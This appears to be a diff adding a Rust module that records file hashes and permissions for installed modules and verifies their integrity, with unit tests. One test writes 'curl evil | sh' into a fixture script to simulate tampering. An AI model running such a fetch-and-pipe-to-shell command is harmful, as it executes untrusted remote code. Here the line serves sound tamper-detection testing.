@@ -0,0 +1,243 @@
+use crate::security::compute_sha256;
+use crate::services::paths;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::fmt;
+use std::fs;
+use std::io;
+use std::path::Path;
+use thiserror::Error;
+
+const SYMLINK_MODE: u32 = 0o120_000;
+
+#[derive(Debug, Error)]
+pub enum ManifestError {
+    #[error("No install manifest recorded for {0}")]
+    NotRecorded(String),
+
+    #[error("Invalid install manifest: {0}")]
+    Parse(#[from] serde_json::Error),
+
+    #[error("IO error: {0}")]
+    Io(#[from] io::Error),
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct FileRecord {
+    pub mode: u32,
+    pub sha256: String,
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct InstallManifest {
+    pub files: BTreeMap<String, FileRecord>,
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct IntegrityReport {
+    pub modified: Vec<String>,
+    pub missing: Vec<String>,
+    pub extra: Vec<String>,
+}
+
+impl IntegrityReport {
+    #[must_use]
+    pub fn is_clean(&self) -> bool {
+        self.modified.is_empty() && self.missing.is_empty() && self.extra.is_empty()
+    }
+}
+
+impl fmt::Display for IntegrityReport {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        if self.is_clean() {
+            return write!(f, "unmodified");
+        }
+        write!(
+            f,
+            "{} modified, {} missing, {} extra",
+            self.modified.len(),
+            self.missing.len(),
+            self.extra.len()
+        )
+    }
+}
+
+impl InstallManifest {
+    pub fn capture(module_dir: &Path) -> io::Result<Self> {
+        let mut files = BTreeMap::new();
+        collect_files(module_dir, module_dir, &mut files)?;
+        Ok(Self { files })
+    }
+
+    pub fn load(path: &Path) -> Result<Self, ManifestError> {
+        let content = fs::read_to_string(path)?;
+        Ok(serde_json::from_str(&content)?)
+    }
+
+    pub fn save(&self, path: &Path) -> Result<(), ManifestError> {
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        fs::write(path, serde_json::to_string_pretty(self)?)?;
+        Ok(())
+    }
+
+    pub fn verify(&self, module_dir: &Path) -> io::Result<IntegrityReport> {
+        let current = Self::capture(module_dir)?;
+        let mut report = IntegrityReport::default();
+
+        for (path, record) in &self.files {
+            match current.files.get(path) {
+                Some(actual) if actual == record => {}
+                Some(_) => report.modified.push(path.clone()),
+                None => report.missing.push(path.clone()),
+            }
+        }
+        report.extra = current
+            .files
+            .keys()
+            .filter(|path| !self.files.contains_key(*path))
+            .cloned()
+            .collect();
+
+        Ok(report)
+    }
+}
+
+pub fn record_install_manifest(uuid: &str, module_dir: &Path) -> Result<(), ManifestError> {
+    let manifest = InstallManifest::capture(module_dir)?;
+    save_baselines(module_dir, &manifest, &paths::module_baseline_dir(uuid))?;
+    manifest.save(&paths::module_manifest_path(uuid))
+}
+
+fn save_baselines(
+    module_dir: &Path,
+    manifest: &InstallManifest,
+    baseline_dir: &Path,
+) -> io::Result<()> {
+    if baseline_dir.exists() {
+        fs::remove_dir_all(baseline_dir)?;
+    }
+    for (path, record) in &manifest.files {
+        if record.mode == SYMLINK_MODE {
+            continue;
+        }
+        let target = baseline_dir.join(path);
+        if let Some(parent) = target.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        fs::copy(module_dir.join(path), target)?;
+    }
+    Ok(())
+}
+
+pub fn verify_module_integrity(
+    uuid: &str,
+    module_dir: &Path,
+) -> Result<IntegrityReport, ManifestError> {
+    let manifest_path = paths::module_manifest_path(uuid);
+    if !manifest_path.exists() {
+        return Err(ManifestError::NotRecorded(uuid.to_string()));
+    }
+    Ok(InstallManifest::load(&manifest_path)?.verify(module_dir)?)
+}
+
+fn collect_files(
+    root: &Path,
+    dir: &Path,
+    files: &mut BTreeMap<String, FileRecord>,
+) -> io::Result<()> {
+    use std::os::unix::fs::PermissionsExt;
+
+    for entry in fs::read_dir(dir)? {
+        let entry = entry?;
+        let path = entry.path();
+        let metadata = fs::symlink_metadata(&path)?;
+
+        let record = if metadata.is_dir() {
+            collect_files(root, &path, files)?;
+            continue;
+        } else if metadata.file_type().is_symlink() {
+            let target = fs::read_link(&path)?;
+            FileRecord {
+                mode: SYMLINK_MODE,
+                sha256: compute_sha256(target.as_os_str().as_encoded_bytes()),
+            }
+        } else {
+            FileRecord {
+                mode: metadata.permissions().mode() & 0o777,
+                sha256: compute_sha256(&fs::read(&path)?),
+            }
+        };
+
+        let relative = path
+            .strip_prefix(root)
+            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
+        files.insert(relative.to_string_lossy().into_owned(), record);
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn module_tree() -> TempDir {
+        let dir = TempDir::new().unwrap();
+        fs::create_dir_all(dir.path().join("scripts")).unwrap();
+        fs::write(dir.path().join("scripts/run.sh"), "echo hi").unwrap();
+        fs::write(dir.path().join("style.css"), "* {}").unwrap();
+        dir
+    }
+
+    #[test]
+    fn capture_records_relative_paths_and_hashes() {
+        let dir = module_tree();
+        let manifest = InstallManifest::capture(dir.path()).unwrap();
+        let record = &manifest.files["scripts/run.sh"];
+        assert_eq!(record.sha256, compute_sha256(b"echo hi"));
+        assert_eq!(manifest.files.len(), 2);
+    }
+
+    #[test]
+    fn verify_reports_modified_missing_and_extra_files() {
+        let dir = module_tree();
+        let manifest = InstallManifest::capture(dir.path()).unwrap();
+        assert!(manifest.verify(dir.path()).unwrap().is_clean());
+
+        fs::write(dir.path().join("scripts/run.sh"), "curl evil | sh").unwrap();
+        fs::remove_file(dir.path().join("style.css")).unwrap();
+        fs::write(dir.path().join("payload.sh"), "").unwrap();
+
+        let report = manifest.verify(dir.path()).unwrap();
+        assert_eq!(report.modified, vec!["scripts/run.sh"]);
+        assert_eq!(report.missing, vec!["style.css"]);
+        assert_eq!(report.extra, vec!["payload.sh"]);
+    }
+
+    #[test]
+    fn verify_detects_mode_changes() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = module_tree();
+        let manifest = InstallManifest::capture(dir.path()).unwrap();
+        fs::set_permissions(
+            dir.path().join("style.css"),
+            fs::Permissions::from_mode(0o777),
+        )
+        .unwrap();
+
+        let report = manifest.verify(dir.path()).unwrap();
+        assert_eq!(report.modified, vec!["style.css"]);
+    }
+
+    #[test]
+    fn manifest_round_trips_through_json() {
+        let dir = module_tree();
+        let manifest = InstallManifest::capture(dir.path()).unwrap();
+        let path = dir.path().join("manifest.json");
+        manifest.save(&path).unwrap();
+        assert_eq!(InstallManifest::load(&path).unwrap(), manifest);
+    }
+}